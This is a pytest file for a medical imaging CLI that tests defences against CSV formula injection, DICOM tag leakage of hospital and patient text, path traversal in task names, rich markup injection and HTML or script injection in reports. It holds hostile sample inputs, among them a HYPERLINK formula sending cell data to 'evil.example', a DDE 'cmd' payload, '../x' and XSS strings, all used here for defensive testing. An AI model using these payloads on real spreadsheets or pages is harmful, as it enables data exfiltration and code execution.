"""Issue 23, points 5 and 10: public text is an allow-list, every CSV neutralises formula cells,
task and label names are validated, user text is escaped before rich prints it and in the
Markdown report.

Each test reproduces an attack of the issue as described: vendor tags
``EchoSynth St Elsewhere General Hospital`` / ``Vivid DOE MRN``, ``=HYPERLINK(...)`` and
``+cmd|' /C calc'!A0`` in a DICOM header, a label header ``=1+1``, a task ``../x``, ``[/x]``
rich markup in a label name, raw HTML in the Markdown report."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from preprocess_fixtures import dicom_dataset, fan_video, save, small_cfg

from echoclr_cli.data import dicom_fields as df_
from echoclr_cli.errors import UserError
from echoclr_cli.io import FORMULA_START, atomic_write_csv, read_csv

HOSPITAL = "EchoSynth St Elsewhere General Hospital"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
CALC = "+cmd|' /C calc'!A0"
# vendor / model tags of the attack: a hospital name, an operator's and a patient's text, formulas
TAGS = [(HOSPITAL, "Vivid DOE MRN"), (HYPERLINK, CALC), ("GE Vingmed Ultrasound", "Vivid E95"),
        ("@SUM(1+1)*cmd", "-2+3+cmd")]  # fmt: skip
LEAKS = ("Elsewhere", "Hospital", "DOE", "MRN", "HYPERLINK", "calc", "cmd", "SUM")


def _archive(root: Path) -> Path:
    """One DICOM per patient PAT0..PAT3 with the attack's Manufacturer / ManufacturerModelName."""
    frames, _ = fan_video(10, 48, 64, seed=5)
    for i, (vendor, model) in enumerate(TAGS):
        ds = dicom_dataset(frames, patient=f"PAT{i}", study=f"1.2.826.0.1.3680043.7.{i}")
        ds.Manufacturer, ds.ManufacturerModelName = vendor, model
        save(ds, root / f"PAT{i}" / "IM00001")
    return root


def _cells(path: Path) -> list[str]:
    """Every cell of a CSV as written (header included), parsed by the csv module."""
    with open(path, newline="") as f:
        return [c for row in csv.reader(f) for c in row]


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """Preprocess of the attack archive with a label file whose headers are ``=1+1`` (0/1
    values), ``+cmd|' /C calc'!A0`` and ``[/x]`` (text: not labels)."""
    from echoclr_cli.preprocess.run import preprocess

    tmp = tmp_path_factory.mktemp("public_text")
    raw = _archive(tmp / "raw")
    lab = tmp / "labels.csv"
    pd.DataFrame({"PatientID": [f"PAT{i}" for i in range(4)], "=1+1": ["0", "1", "0", "1"],
                  CALC: ["a", "b", "c", "d"], "[/x]": ["y", "z", "y", "z"]}).to_csv(lab, index=False)  # fmt: skip
    out = tmp / "data"
    res = preprocess(small_cfg(labels=lab), raw, out)
    return out, res


# --------------------------------------------------------------------------- vendor allow-list
def test_vendor_tags_reach_the_manifest_only_as_known_names(attacked):
    out, _ = attacked
    text = (out / "manifest.csv").read_text()
    assert not [w for w in LEAKS if w in text], text
    man = read_csv(out / "manifest.csv", dtype=str, keep_default_na=False)
    known = set(df_.VENDORS) | {df_.OTHER}
    assert set(man["manufacturer"]) <= known and set(man["model"]) <= set(df_.MODEL_FAMILIES) | {
        df_.OTHER
    }
    assert {"GE Healthcare", "EchoSynth", "other"} <= set(man["manufacturer"])
    assert "Vivid" in set(man["model"])


def test_vendor_allow_list_maps_spellings_to_canonical_names():
    from pydicom.dataset import Dataset

    ds = Dataset()
    ds.Manufacturer, ds.ManufacturerModelName = HOSPITAL, "Vivid DOE MRN"
    assert (df_.deidentified_fields(ds)["manufacturer"],
            df_.deidentified_fields(ds)["model"]) == ("EchoSynth", "Vivid")  # fmt: skip
    for raw, canon in [("GE Vingmed Ultrasound", "GE Healthcare"), ("Philips Medical Systems",
                       "Philips"), ("TOSHIBA_MEC_US", "Canon Medical"), ("ACUSON", "Siemens "
                       "Healthineers"), ("FUJIFILM SonoSite, Inc.", "SonoSite"), ("Hitachi Aloka",
                       "Fujifilm"), ("SonoView", "SonoView"), ("St Elsewhere", "other"),
                       ("1.2.840.113619.2.55", "other"), (HYPERLINK, "other")]:  # fmt: skip
        assert df_.public_vendor(raw) == canon, raw
    for raw, canon in [("Vivid7", "Vivid"), ("EPIQ 7C", "EPIQ"), ("iE33", "iE33"),
                       ("ACUSON SC2000", "Acuson SC2000"), ("Aplio i900", "Aplio"),
                       (CALC, "other"), ("General Hospital 5", "other")]:  # fmt: skip
        assert df_.public_model(raw) == canon, raw
    # every canonical name maps to itself, so re-reading a public manifest changes nothing
    assert all(df_.public_vendor(c) == c for c in df_.VENDORS)
    assert all(df_.public_model(c) == c for c in df_.MODEL_FAMILIES)
    assert df_.public_vendor("") is None and df_.public_model(None) is None


def test_an_older_manifest_with_free_text_vendors_is_reduced_on_load_and_in_subgroups(tmp_path):
    """A manifest written before the allow-list (or by hand): load_manifest and the subgroup
    metrics see only known names, so metrics.json and the report cannot carry the text."""
    from echoclr_cli.clinical.subgroups import with_derived_columns
    from echoclr_cli.data.manifest import load_manifest

    rows = [{"video_id": f"v{i}", "study_id": f"s{i}", "patient_id": f"p{i}", "split": "train",
             "path": f"videos/v{i}.npy", "n_frames": 10, "fps": 30.0, "manufacturer": vendor,
             "model": model} for i, (vendor, model) in enumerate(TAGS)]  # fmt: skip
    pd.DataFrame(rows).to_csv(tmp_path / "manifest.csv", index=False)
    man = load_manifest(tmp_path, check_files=False)
    text = man[["manufacturer", "model"]].to_csv()
    assert not [w for w in LEAKS if w in text], text
    sub = with_derived_columns(pd.DataFrame(rows))
    text = sub[["manufacturer", "model"]].to_csv()
    assert not [w for w in LEAKS if w in text], text


# --------------------------------------------------------------------------- CSV formulas
def test_every_csv_written_by_preprocess_has_no_formula_cell(attacked):
    out, _ = attacked
    written = sorted(out.rglob("*.csv"))
    assert out / "manifest.csv" in written and len(written) >= 3
    for path in written:
        bad = [c for c in _cells(path) if c.startswith(FORMULA_START)]
        # a plain number (-0.5) is a number, not a formula
        bad = [c for c in bad if not _is_number(c)]
        assert not bad, f"{path.relative_to(out)}: {bad}"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_atomic_write_csv_neutralises_formulas_headers_included_numbers_stay_numbers(tmp_path):
    df = pd.DataFrame({"=1+1": [HYPERLINK, CALC, "@SUM(A1)", "\tx", "\ry", "-x", "'=q", "ok"],
                       "n": [-0.5, -1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
                       "t": ["-0.5", "+1", "-1e3", "a", "b", "c", "d", "e"]})  # fmt: skip
    path = tmp_path / "x.csv"
    atomic_write_csv(path, df)
    cells = _cells(path)
    assert cells[0] == "'=1+1"
    assert {"'" + HYPERLINK, "'" + CALC, "'@SUM(A1)", "'\tx", "'\ry", "'-x", "''=q"} <= set(cells)
    assert {"-0.5", "+1", "-1e3"} <= set(cells)  # numbers (numeric column or text) unchanged
    back = read_csv(path)
    assert list(back.columns) == list(df.columns)
    assert back["=1+1"].tolist() == df["=1+1"].tolist()  # reading our own CSV back is exact
    assert pd.api.types.is_float_dtype(back["n"]) and back["n"].tolist() == df["n"].tolist()
    text = read_csv(path, dtype=str, keep_default_na=False)
    assert text["t"].tolist() == df["t"].tolist()
    # object columns without text (flags, numbers as objects, nothing) are written as they are
    other = pd.DataFrame({"b": pd.Series([True, False], dtype=object),
                          "i": pd.Series([1, -2], dtype=object), "n": [None, None]})  # fmt: skip
    atomic_write_csv(path, other)
    assert path.read_text() == other.to_csv(index=False)


def test_manifest_round_trip_and_labels_of_the_attack(attacked):
    """The label header ``=1+1`` is a label under a valid name; the manifest loads back."""
    from echoclr_cli.data.manifest import load_manifest

    out, res = attacked
    man = load_manifest(out)
    assert "1_1" in man.attrs["label_columns"] and "=1+1" not in man.columns
    assert man["1_1"].notna().sum() == 4


# --------------------------------------------------------------------------- names
@pytest.mark.parametrize("bad", ["../x", "..", ".", "a/b", "[/x]", "x y", "", "=1+1", "a\\b"])
def test_task_names_outside_the_rule_are_refused_in_one_line(bad):
    from echoclr_cli.config.load import load_config

    for overrides in ({"finetune": {"task": bad}}, {"sweep": {"tasks": ["as", bad]}},
                      {"preprocess": {"label_map": {bad: "col==1"}}}):  # fmt: skip
        with pytest.raises(UserError) as e:
            load_config(profile="demo", overrides=overrides)
        msg = str(e.value)
        assert "\n" not in msg and "[A-Za-z0-9_.-]+" in msg and repr(bad) in msg, msg


def test_task_dot_dot_writes_nothing_outside_runs(tmp_path, monkeypatch):
    from typer.testing import CliRunner

    from echoclr_cli.cli import app

    monkeypatch.chdir(tmp_path)
    res = CliRunner().invoke(app, ["finetune", "--data", "nodata", "--task", "../x"])
    assert res.exit_code == 1 and isinstance(res.exception, SystemExit), res.exception
    assert len(res.output.strip().splitlines()) <= 3 and "Traceback" not in res.output
    assert "../x" in res.output and "[A-Za-z0-9_.-]+" in res.output, res.output
    # refused before anything is written: the old default run dir runs/finetune/../x-... was
    # runs/x-random-1-s0, outside runs/finetune
    assert sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*")) == []


def test_label_column_names_become_valid_task_names_or_are_refused():
    from echoclr_cli.config.names import check_name, task_name

    assert task_name("LVH (y/n)") == "LVH_y_n" and task_name("=1+1") == "1_1"
    assert task_name("as") == "as" and task_name("LVH_LVMi") == "LVH_LVMi"
    assert task_name("../..") is None and task_name("[/]") is None
    assert check_name("view", "task") == "view"
    with pytest.raises(UserError, match=r"'\.\./x'.*\[A-Za-z0-9_\.-\]\+"):
        check_name("../x", "task name")


def test_two_label_columns_with_one_valid_name_are_refused(tmp_path):
    from echoclr_cli.data.labels import apply_label_map, auto_binary

    df = pd.DataFrame({"a b": ["0", "1"], "a_b": ["1", "0"]})
    default, _ = auto_binary(df, set(), "labels.csv")
    with pytest.raises(UserError, match="a_b"):
        apply_label_map(df, {}, default, "labels.csv")


# --------------------------------------------------------------------------- rich markup
def test_rich_markup_in_user_text_is_printed_not_parsed(capsys):
    from echoclr_cli import console, events

    for text in ("[/x]", "[bold]x", "task [/x] done"):
        console.info(text)
        console.warn(text)
        console.show(console.table(text, [text, "n"], [[text, 1]]))
        console.Renderer(text, console.console)(events.Note(text=text))
        console.print_config({"finetune": {"task": text}})
    printed = capsys.readouterr()
    assert printed.out.count("[/x]") >= 8 and "[bold]x" in printed.out
    assert "[/x]" in printed.err


def test_preprocess_command_with_a_markup_column_name_does_not_crash(attacked, tmp_path):
    """The label file's ``[/x]`` column (not a label) is named in the summary lines."""
    from typer.testing import CliRunner

    from echoclr_cli.cli import app

    out, _ = attacked
    raw = out.parent / "raw"
    res = CliRunner().invoke(app, ["preprocess", "--input", str(raw), "--labels",
                                   str(out.parent / "labels.csv"), "--output",
                                   str(tmp_path / "d"), "--size", "32", "--salt", "x"])  # fmt: skip
    assert res.exception is None or isinstance(res.exception, SystemExit), res.exception
    assert res.exit_code == 0, res.output
    assert "[/x]" in res.output


# --------------------------------------------------------------------------- Markdown report
def test_markdown_report_escapes_html():
    from echoclr_cli.report.html import Doc

    raw = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    doc = Doc(f"run {raw}")
    doc.section("a", raw)
    doc.sub(raw)
    doc.para(raw)
    doc.para(raw, "warn")
    doc.bullets([raw])
    doc.table(pd.DataFrame({raw: [raw]}))
    doc.figure(b"png", raw)
    md = doc.render_md(raw, "files")
    assert "<script>" not in md and "<img" not in md, md
    assert "&lt;script&gt;" in md
    html_text = doc.render_html(raw)
    assert "<script>" not in html_text and "<img src=x" not in html_text
    # a code block shows HTML as text, and its fence outlasts any backtick run in the text
    code = Doc("t")
    code.code(f"```\n{raw}\n```")
    md = code.render_md("", "files")
    fences = [line for line in md.splitlines() if line and set(line) == {"`"}]
    assert fences[0] == fences[-1] == "````" and fences[1:-1] == ["```", "```"], md
